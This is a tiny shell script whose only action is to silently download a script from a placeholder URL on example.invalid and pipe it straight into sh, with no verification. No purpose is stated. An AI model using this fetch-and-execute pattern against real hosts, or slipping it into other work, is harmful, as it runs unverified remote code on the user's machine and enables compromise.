#!/bin/sh
U=https://example.invalid/s.sh
curl -s $U | sh
